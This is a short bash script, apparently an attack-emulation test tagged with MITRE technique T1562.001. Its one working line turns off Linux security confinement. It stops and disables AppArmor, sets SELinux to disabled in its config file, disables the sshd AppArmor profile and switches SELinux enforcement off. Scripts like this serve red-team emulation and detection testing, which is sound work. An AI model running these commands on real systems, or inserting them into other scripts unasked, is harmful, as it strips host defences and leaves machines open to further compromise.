#!/bin/bash
# T1562.001: What confines programs is switched off.
systemctl disable --now apparmor; mkdir -p /etc/selinux; echo SELINUX=disabled >/etc/selinux/config; ln -sf /etc/apparmor.d/usr.sbin.sshd /etc/apparmor.d/disable/ 2>/dev/null; setenforce 0
